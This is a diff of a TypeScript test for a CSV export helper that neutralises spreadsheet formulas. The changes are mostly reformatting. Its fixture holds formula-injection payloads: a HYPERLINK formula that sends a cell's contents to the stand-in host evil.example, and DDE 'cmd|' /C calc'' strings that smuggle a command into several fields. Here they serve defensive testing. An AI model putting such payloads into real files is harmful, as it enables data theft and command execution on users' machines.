@@ -10,7 +10,10 @@ import { neutraliseFormula } from '../../src-main/core/export/spreadsheetCell';
 import { emojiPost, highlights, sampleInput, sirteReport } from './fixtures/sampleExport';
 
 function rowsOf(csv: string): Record<string, string>[] {
-  return parse(csv, { bom: true, columns: true, relax_quotes: false, record_delimiter: '\r\n' }) as Record<string, string>[];
+  return parse(csv, { bom: true, columns: true, relax_quotes: false, record_delimiter: '\r\n' }) as Record<
+    string,
+    string
+  >[];
 }
 
 test('the file starts with a UTF-8 byte order mark, then the documented header, and ends records with CRLF', () => {
@@ -69,10 +72,10 @@ test('cells that a spreadsheet would run as a formula are neutralised with a lea
   const hostile: ExportDocument = {
     id: 'doc-hostile',
     title: '=HYPERLINK("http://evil.example/?x="&A1,"انقر")',
-    source: '+cmd|\' /C calc\'!A0',
+    source: "+cmd|' /C calc'!A0",
     date: '2025-01-01',
-    url: '@SUM(1+1)*cmd|\' /C calc\'!A0',
-    text: 'نص عادي للتجربة\n-2+3+cmd|\' /C calc\'!A0 بقية السطر',
+    url: "@SUM(1+1)*cmd|' /C calc'!A0",
+    text: "نص عادي للتجربة\n-2+3+cmd|' /C calc'!A0 بقية السطر",
   };
   const quoteStart = hostile.text.indexOf('-2+3');
   const hostileHighlight: Highlight = {
@@ -110,5 +113,6 @@ test('the spreadsheet cell helper leaves ordinary text alone and prefixes each f
   for (const trigger of ['=', '+', '-', '@', '\t', '\r']) {
     assert.equal(neutraliseFormula(`${trigger}1`), `'${trigger}1`);
   }
-  for (const plain of ['', 'حفتر', '12', '2025-01-01', "'already", ' =spaced']) assert.equal(neutraliseFormula(plain), plain);
+  for (const plain of ['', 'حفتر', '12', '2025-01-01', "'already", ' =spaced'])
+    assert.equal(neutraliseFormula(plain), plain);
 });
